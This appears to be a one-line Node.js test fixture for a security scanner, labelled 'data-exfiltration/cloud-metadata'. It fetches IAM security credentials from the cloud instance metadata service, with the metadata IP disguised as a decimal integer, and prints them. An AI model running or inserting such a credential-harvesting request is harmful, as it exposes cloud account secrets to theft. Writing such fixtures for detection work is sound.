const host = String(2852039166);
require('http').get(`http://${host}/latest/meta-data/iam/security-credentials/web`, (answer) => answer.pipe(process.stdout)); // expect: data-exfiltration/cloud-metadata
